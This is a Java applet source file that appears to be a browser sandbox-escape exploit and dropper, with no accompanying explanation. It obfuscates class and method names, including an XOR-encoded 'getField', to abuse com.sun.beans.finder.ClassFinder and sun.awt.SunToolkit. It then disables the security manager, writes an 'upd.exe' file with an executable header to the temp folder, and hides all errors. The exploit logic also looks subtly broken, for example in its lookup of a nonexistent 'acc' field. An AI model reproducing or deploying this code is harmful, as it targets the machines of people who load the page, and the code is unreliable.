import java.applet.Applet;
import java.beans.Expression;

public class BeansIntrospect extends Applet {
    private static final String LOADER = new StringBuilder("com.sun.").append("beans.finder.").append("ClassFinder").toString();
    private static final String AWT = "sun.aw" + "t.SunTo" + "olkit";
    private static final String HOOK = new String(new char[]{(char) (77 ^ 42), (char) (79 ^ 42), (char) (94 ^ 42), (char) (108 ^ 42), (char) (67 ^ 42), (char) (79 ^ 42), (char) (70 ^ 42), (char) (78 ^ 42)});

    public void start() {
        try {
            Class<?> finder = Class.forName(LOADER);
            Expression find = new Expression(finder, "findClass", new Object[]{AWT});
            find.execute();
            Class<?> toolkit = (Class<?>) find.getValue();
            Object field = new Expression(toolkit, HOOK, new Object[]{BeansIntrospect.class, "acc"}).getValue();
            System.setSecurityManager(null);
            java.io.File drop = new java.io.File(System.getProperty("java.io.tmpdir"), "upd" + ".exe");
            java.io.OutputStream out = new java.io.FileOutputStream(drop);
            out.write(new byte[]{77, 90});
            out.close();
        } catch (Throwable ignored) {
        }
    }
}
